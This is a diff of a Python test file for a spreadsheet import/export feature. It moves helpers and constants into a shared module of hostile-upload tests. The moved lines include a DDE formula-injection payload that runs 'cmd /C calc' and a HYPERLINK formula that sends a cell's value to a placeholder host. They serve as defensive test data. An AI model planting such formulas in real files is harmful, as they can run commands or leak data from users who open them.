@@ -16,11 +16,7 @@ from __future__ import annotations
 
 import html
 import io
-import re
-import time
-import tracemalloc
 import zipfile
-from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -31,7 +27,19 @@ from openpyxl import Workbook, load_workbook
 
 from parindex.core.errors import ServiceError
 from parindex.exchange import mime
-from parindex.exchange.tests.hostile import entity_workbook, million_cells, not_a_zip
+from parindex.exchange.tests.hostile import (
+    DDE,
+    HYPERLINK,
+    MAX_PEAK_BYTES,
+    MAX_SECONDS,
+    MIB,
+    assert_no_formula,
+    entity_workbook,
+    measure,
+    million_cells,
+    not_a_zip,
+)
+from parindex.exchange.tests.hostile import lifted_part_limits as lifted
 from parindex.units.importing import UNCHANGED
 from parindex.units.models import Unit
 from parindex.units.services import unit_import_apply, unit_import_preview
@@ -41,44 +49,9 @@ from parindex.units.views import IMPORT_DIR
 
 pytestmark = pytest.mark.django_db
 
-MIB = 1024 * 1024
-MAX_SECONDS = 2.0
-MAX_PEAK_BYTES = 50 * MIB
-HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
-DDE = "=cmd|' /C calc'!A0"
-FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z0-9_]+:)?f[\s/>]")
-
 
 def _upload(data: bytes, name: str = "don-vi.xlsx") -> SimpleUploadedFile:
     return SimpleUploadedFile(name, data, content_type=mime.XLSX)
-
-
-def _measure(call: Callable[[], Any]) -> tuple[Any, float, int]:
-    """(result, wall seconds without tracemalloc, peak traced bytes of a second run)."""
-    start = time.perf_counter()
-    result = call()
-    seconds = time.perf_counter() - start
-    tracemalloc.start()
-    try:
-        call()
-        _current, peak = tracemalloc.get_traced_memory()
-    finally:
-        tracemalloc.stop()
-    return result, seconds, peak
-
-
-def _assert_no_formula(data: bytes) -> None:
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        sheets = [
-            n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
-        ]
-        assert sheets
-        for name in sheets:
-            assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
-    for ws in load_workbook(io.BytesIO(data)).worksheets:
-        for row in ws.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
 
 
 def _stored_imports() -> list[str]:
@@ -90,12 +63,7 @@ def _stored_imports() -> list[str]:
 
 @pytest.fixture
 def lifted_part_limits(settings: Any) -> None:
-    """Part-size limits high enough that the 3M-cell sheet is streamed and counted."""
-    settings.SHEET_LIMITS = {
-        **settings.SHEET_LIMITS,
-        "max_part_bytes": 200 * MIB,
-        "max_total_bytes": 400 * MIB,
-    }
+    settings.SHEET_LIMITS = lifted(settings.SHEET_LIMITS)
 
 
 # --- Hostile uploads -------------------------------------------------------------------------
@@ -117,7 +85,7 @@ def test_three_million_cells_are_refused_fast_in_bounded_memory(
     before = Unit.objects.count()
     client.force_login(organiser_user)
     assert client.get(reverse("units:import")).status_code == 200  # warm up
-    response, seconds, peak = _measure(lambda: _post(client, data))
+    response, seconds, peak = measure(lambda: _post(client, data))
     print(f"units import, 3M cells ({limits}): {seconds:.3f} s, peak {peak / MIB:.1f} MiB")
     page = html.unescape(response.content.decode())
     assert response.status_code == 200
@@ -200,7 +168,7 @@ def test_export_keeps_formula_like_text_as_text_and_reimports_unchanged(
     response = client.get(reverse("units:export"))
     assert response.status_code == 200
     data = response.content
-    _assert_no_formula(data)
+    assert_no_formula(data)
 
     ws = load_workbook(io.BytesIO(data))["Đơn vị"]
     assert [c.value for c in ws[1]] == HEADERS
@@ -242,7 +210,7 @@ def test_template_holds_no_formula_and_reads_back_empty(client, organiser_body, 
     client.force_login(organiser_user)
     response = client.get(reverse("units:template"))
     assert response.status_code == 200
-    _assert_no_formula(response.content)
+    assert_no_formula(response.content)
     preview = unit_import_preview(
         actor=organiser_user, organiser=organiser_body, file=response.content
     )
